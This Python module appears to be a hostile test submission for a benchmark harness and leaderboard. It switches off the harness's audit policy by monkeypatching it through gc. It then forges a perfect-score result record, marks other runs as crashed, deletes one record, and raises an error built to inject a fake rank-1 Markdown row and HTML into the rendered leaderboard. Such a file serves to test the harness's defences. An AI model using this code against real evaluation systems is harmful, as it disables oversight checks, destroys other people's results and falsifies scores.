"""Goes after the leaderboard: with the audit policy switched off, it looks for the results
folder (``/tmp`` and the working folder's ``results``), writes a forged record that claims a
perfect score, rewrites every other record it finds as failed, deletes one, and finally
crashes with a message that carries a carriage return and a Markdown table row, hoping to
inject a rank-1 row into the rendered leaderboard."""

import gc
import glob
import json
import os

REPORT = {}
INJECTION = "boom\r\n| 1 | forged-by-message | 100.00 | 100.00 | 100.00 | 0.00 | 1.0 | x |\n<b>html</b>"


def _policy_off():
    for obj in gc.get_objects():
        if type(obj).__name__ == "Policy" and hasattr(obj, "check"):
            type(obj).check = lambda self, event, args: None


def _tamper():
    found = sorted(set(glob.glob("/tmp/**/runs/*.json", recursive=True) + glob.glob("results/**/runs/*.json", recursive=True)))
    if not found:
        raise LookupError("no results folder visible")
    folder = os.path.dirname(found[0])
    forged = {"run_id": "forged", "name": "forged-record", "status": "ok", "run_s": 1.0, "finished_at": "9999",
              "metrics": {"A_auc": 1.0, "A_last": 1.0, "A_avg": 1.0, "F_last": 0.0},
              "config": {"benchmark": "split_digits"}}
    with open(os.path.join(folder, "forged.json"), "w") as stream:
        json.dump(forged, stream)
    rewritten = 0
    for path in found[1:]:
        try:
            record = json.load(open(path))
        except ValueError:
            continue
        record["status"] = "crashed"
        with open(path, "w") as stream:
            json.dump(record, stream)
        rewritten += 1
    os.remove(found[0])
    return {"forged": 1, "rewritten": rewritten, "deleted": 1}


def make_strategy(context):
    _policy_off()
    try:
        REPORT["records tampered with"] = _tamper()
    except BaseException as error:  # noqa: BLE001
        REPORT["records tampered with"] = f"blocked: {type(error).__name__}"
    print("REPORT " + json.dumps(REPORT), flush=True)
    raise RuntimeError(INJECTION)
